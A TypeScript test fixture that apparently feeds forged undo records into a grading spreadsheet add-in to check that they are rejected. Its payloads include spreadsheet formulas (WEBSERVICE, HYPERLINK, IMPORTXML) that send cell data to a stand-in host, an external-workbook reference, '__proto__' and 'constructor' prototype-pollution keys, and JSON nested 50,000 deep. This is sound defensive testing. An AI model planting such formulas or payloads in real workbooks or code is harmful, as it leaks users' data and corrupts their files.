import { capture } from "../../files/xlsx/read/capture";
import { openWorkbook } from "../../files/xlsx/package/workbook";
import { blockFingerprint } from "../../src/workbook/model/fingerprint";
import { rectOf } from "../../src/workbook/model/area";
import type { Area } from "../../src/workbook/model/area";
import type { Snapshot } from "../../src/workbook/model/snapshot";
import type { UndoRecord, UndoSheet } from "../../src/workbook/undo/undo-note";
import { COLLEAGUE } from "./noted-books";
import type { NotedBook } from "./noted-books";

/** What a forger knows of a workbook. */
interface Known {
  readonly note: UndoRecord;
  readonly areaOf: (name: string) => Area;
  readonly cellOf: (name: string, row: number) => unknown;
  /** A sheet as an action would note it, with the mark of what really stands in it. */
  readonly sheet: (name: string) => UndoSheet;
}

interface Forged {
  readonly what: string;
  /** The command whose workbook it is laid into. */
  readonly of: string;
  readonly forge: (known: Known) => unknown;
}

const out = (name: string) => ({ formula: `=${name}("https://vi.du/?"&A1)`, value: null });

/** A run over one cell of a bound column, as it stands. */
function at({ areaOf, cellOf }: Known, name: string, row: number, before: unknown, also: object = {}) {
  const { sheet, row: first, column } = areaOf(name);
  return { sheet, row: first + row, column, rows: 1, before, after: cellOf(name, row), ...also };
}

const withRuns = (known: Known, ...runs: readonly unknown[]) => ({
  ...known.note,
  runs: [...known.note.runs, ...runs],
});
const BESIDE = { sheet: COLLEAGUE, row: 2, column: 2, rows: 1, before: 99, after: 12 };

export const forgedNotes: readonly Forged[] = [
  {
    what: "a score that would become another",
    of: "fix",
    forge: (known) => withRuns(known, at(known, "ThamDinh_1_TC1", 1, 2)),
  },
  {
    what: "a score that would be emptied",
    of: "fix",
    forge: (known) => withRuns(known, at(known, "ThamDinh_1_TC1", 1, null)),
  },
  {
    what: "a web call in a score",
    of: "fix",
    forge: (known) => withRuns(known, at(known, "ThamDinh_1_TC1", 1, out("WEBSERVICE"))),
  },
  {
    what: "a link in a score",
    of: "fix",
    forge: (known) => withRuns(known, at(known, "ThamDinh_1_TC1", 1, out("HYPERLINK"))),
  },
  {
    what: "a sum in a score",
    of: "fix",
    forge: (known) => withRuns(known, at(known, "ThamDinh_1_TC1", 1, { formula: "=1+1", value: null })),
  },
  {
    what: "a name that would be emptied",
    of: "fix",
    forge: (known) => withRuns(known, at(known, "ThamDinh_1_DoiTuong", 0, null)),
  },
  { what: "a cell of a colleague's sheet", of: "fix", forge: (known) => withRuns(known, BESIDE) },
  { what: "a sheet that is missing", of: "fix", forge: (known) => withRuns(known, { ...BESIDE, sheet: "Không có" }) },
  {
    what: "a correction that would delete a sheet",
    of: "fix",
    forge: ({ note, sheet }) => ({ ...note, sheets: [sheet(COLLEAGUE)] }),
  },
  {
    what: "a correction that would unbind a column",
    of: "fix",
    forge: ({ note, areaOf }) => ({
      ...note,
      names: [{ name: "ThamDinh_1_TC1", before: null, after: areaOf("ThamDinh_1_TC1") }],
    }),
  },
  {
    what: "a correction that would move a column",
    of: "fix",
    forge: ({ note, areaOf }) => ({
      ...note,
      names: [{ name: "ThamDinh_1_TC1", before: areaOf("ThamDinh_1_TC2"), after: areaOf("ThamDinh_1_TC1") }],
    }),
  },
  {
    what: "a correction that would clear rules",
    of: "fix",
    forge: ({ note, areaOf }) => ({ ...note, rules: [areaOf("ThamDinh_1_TC1")] }),
  },
  {
    what: "an action by the name of constructor",
    of: "fix",
    forge: ({ note }) => ({ ...note, action: "constructor" }),
  },
  { what: "an action by the name of __proto__", of: "fix", forge: ({ note }) => ({ ...note, action: "__proto__" }) },
  { what: "an action that leaves no note", of: "fix", forge: ({ note }) => ({ ...note, action: "check" }) },
  {
    what: "a card that would change another entry as well",
    of: "score-entry",
    forge: (known) => withRuns(known, at(known, "ThamDinh_1_TC1", 1, 2)),
  },
  {
    what: "a card that would rename its entry",
    of: "score-entry",
    forge: (known) => withRuns(known, at(known, "ThamDinh_1_DoiTuong", 0, "Tên khác")),
  },
  {
    what: "a card that would bring a formula",
    of: "score-entry",
    forge: ({ note }) => ({ ...note, runs: note.runs.map((run) => ({ ...run, before: out("WEBSERVICE") })) }),
  },
  {
    what: "a card that would change a rubric",
    of: "score-entry",
    forge: (known) => withRuns(known, at(known, "ThamDinh_Rubric_tap_the", 1, "x")),
  },
  {
    what: "a remark that would change the one of another entry",
    of: "remark",
    forge: (known) => withRuns(known, at(known, "ThamDinh_1_NX2", 1, "x")),
  },
  {
    what: "a remark that would unbind a column of scores",
    of: "remark",
    forge: ({ note, areaOf }) => ({
      ...note,
      names: [...note.names, { name: "ThamDinh_1_TC1", before: null, after: areaOf("ThamDinh_1_TC1") }],
    }),
  },
  {
    what: "a remark that would delete a sheet",
    of: "remark",
    forge: ({ note, sheet }) => ({ ...note, sheets: [sheet(COLLEAGUE)] }),
  },
  {
    what: "a web call in a result",
    of: "classify",
    forge: ({ note }) => ({ ...note, runs: note.runs.map((run) => ({ ...run, before: out("WEBSERVICE") })) }),
  },
  {
    what: "an import in a result",
    of: "classify",
    forge: ({ note }) => ({ ...note, runs: note.runs.map((run) => ({ ...run, before: out("IMPORTXML") })) }),
  },
  {
    what: "another workbook in a result",
    of: "classify",
    forge: ({ note }) => ({
      ...note,
      runs: note.runs.map((run) => ({ ...run, before: { formula: "='C:\\[luong.xlsx]A'!A1", value: null } })),
    }),
  },
  {
    what: "a classification that would empty scores",
    of: "classify",
    forge: (known) => withRuns(known, at(known, "ThamDinh_1_TC1", 1, null)),
  },
  {
    what: "a classification that would empty notes",
    of: "classify",
    forge: (known) => withRuns(known, at(known, "ThamDinh_1_MinhChung", 0, null)),
  },
  {
    what: "attaching that would clear columns of scores",
    of: "attach",
    forge: ({ note, areaOf }) => ({
      ...note,
      columns: [{ ...note.columns![0]!, column: areaOf("ThamDinh_1_TC1").column }],
    }),
  },
  {
    what: "attaching that would clear the headings of a colleague",
    of: "attach",
    forge: ({ note }) => ({
      ...note,
      columns: [
        ...note.columns!,
        { ...note.columns![0]!, sheet: COLLEAGUE, column: 1, header: { row: 1, rows: 1 }, body: { row: 2, rows: 2 } },
      ],
    }),
  },
  {
    what: "attaching that would unbind some columns",
    of: "attach",
    forge: ({ note }) => ({
      ...note,
      runs: [],
      columns: [],
      sheets: [],
      names: note.names.filter(({ name }) => name.endsWith("_TC1")),
    }),
  },
  {
    what: "attaching that would delete a colleague's sheet",
    of: "attach",
    forge: ({ note, sheet }) => ({ ...note, sheets: [...note.sheets, sheet(COLLEAGUE)] }),
  },
  {
    what: "a template that would delete a colleague's sheet",
    of: "insert-template",
    forge: ({ note, sheet }) => ({ ...note, sheets: [...note.sheets, sheet(COLLEAGUE)] }),
  },
  {
    what: "a template that would delete a sheet which is gone",
    of: "insert-template",
    forge: ({ note, sheet }) => ({ ...note, sheets: [...note.sheets, { ...sheet(COLLEAGUE), name: "Không có" }] }),
  },
  {
    what: "a rubric that would take another one with it",
    of: "make-rubric",
    forge: ({ note, sheet, areaOf }) => ({
      ...note,
      sheets: [...note.sheets, sheet("Bộ tiêu chí")],
      names: [
        ...note.names,
        { name: "ThamDinh_Rubric_tap_the", before: null, after: areaOf("ThamDinh_Rubric_tap_the") },
      ],
    }),
  },
  {
    what: "a rubric that would take a table with it",
    of: "make-rubric",
    forge: ({ note, sheet, areaOf }) => ({ ...note, sheets: [...note.sheets, sheet(areaOf("ThamDinh_1_TC1").sheet)] }),
  },
  {
    what: "a summary that would delete a colleague's sheet",
    of: "summarize",
    forge: ({ note, sheet }) => ({ ...note, sheets: [sheet(COLLEAGUE)] }),
  },
  {
    what: "a summary that calls the web",
    of: "summarize again",
    forge: ({ note }) => ({
      ...note,
      rewritten: note.rewritten!.map((own) => ({
        ...own,
        before: {
          ...own.before,
          formulas: own.before.columns.map((cells) => cells.map(() => '=WEBSERVICE("https://vi.du")')),
        },
      })),
    }),
  },
  {
    what: "a summary in a colleague's sheet",
    of: "summarize again",
    forge: ({ note, sheet }) => ({
      ...note,
      rewritten: note.rewritten!.map((own) => ({ ...own, ...sheet(COLLEAGUE) })),
    }),
  },
  {
    what: "a repair that would bind another column",
    of: "repair",
    forge: ({ note, areaOf }) => ({
      ...note,
      names: note.names.map((own) => ({ ...own, before: areaOf("ThamDinh_1_TC1") })),
    }),
  },
  {
    what: "a repair that would unbind a column that was whole",
    of: "repair",
    forge: ({ note, areaOf }) => ({
      ...note,
      names: [...note.names, { name: "ThamDinh_1_TC2", before: null, after: areaOf("ThamDinh_1_TC2") }],
    }),
  },
  {
    what: "a repair that would shrink a colleague's table",
    of: "repair",
    forge: ({ note }) => ({
      ...note,
      frames: [
        {
          kind: "resizeTable",
          name: "Bang1",
          sheet: COLLEAGUE,
          from: { row: 1, column: 1, rows: 2, columns: 2 },
          to: { row: 1, column: 1, rows: 3, columns: 2 },
        },
      ],
    }),
  },
  {
    what: "a copy that would delete a colleague's sheet",
    of: "convert-legacy",
    forge: ({ note, sheet }) => ({ ...note, sheets: [sheet(COLLEAGUE)] }),
  },
  {
    what: "four columns to the end of the sheet",
    of: "fix",
    forge: ({ note }) => ({
      ...note,
      runs: Array.from({ length: 4 }, (_, index) => ({ ...BESIDE, row: 1, column: index + 1, rows: 1_048_576 })),
    }),
  },
  {
    what: "a sheet as large as sheets can be",
    of: "insert-template",
    forge: ({ note }) => ({
      ...note,
      sheets: [{ name: COLLEAGUE, rect: { row: 1, column: 1, rows: 1_048_576, columns: 16_384 }, mark: "M0" }],
    }),
  },
  { what: "a list that is none", of: "fix", forge: ({ note }) => ({ ...note, runs: { length: 1e9 } }) },
  { what: "a field that no note has", of: "fix", forge: ({ note }) => ({ ...note, script: "=1" }) },
];

/** Texts that are no notes at all. */
export const noNotes: readonly (readonly [what: string, text: string])[] = [
  ["no JSON", "{"],
  ["a number", "5"],
  ["a list", "[]"],
  ["null", "null"],
  ["lists 50,000 deep", `${"[".repeat(50_000)}${"]".repeat(50_000)}`],
  ["objects 50,000 deep", `${'{"runs":'.repeat(50_000)}1${"}".repeat(50_000)}`],
  ["longer than any", JSON.stringify("x".repeat(2_000_000))],
];

export function forgedText({ forge }: Forged, { note, bytes }: NotedBook): string {
  const workbook = openWorkbook(bytes);
  const snapshot: Snapshot = capture(workbook);
  const blockOf = (name: string) => snapshot.names.find((own) => own.name === name)!.block!;
  return JSON.stringify(
    forge({
      note,
      areaOf: (name) => blockOf(name).area,
      cellOf: (name, row) => blockOf(name).columns[0]?.[row] ?? null,
      sheet: (name) => {
        const { block } = capture(workbook, {
          region: { sheet: name, row: 1, column: 1, rows: 1, columns: 1 },
        }).region!;
        return { name, rect: rectOf(block.area), mark: blockFingerprint(block) };
      },
    }),
  );
}
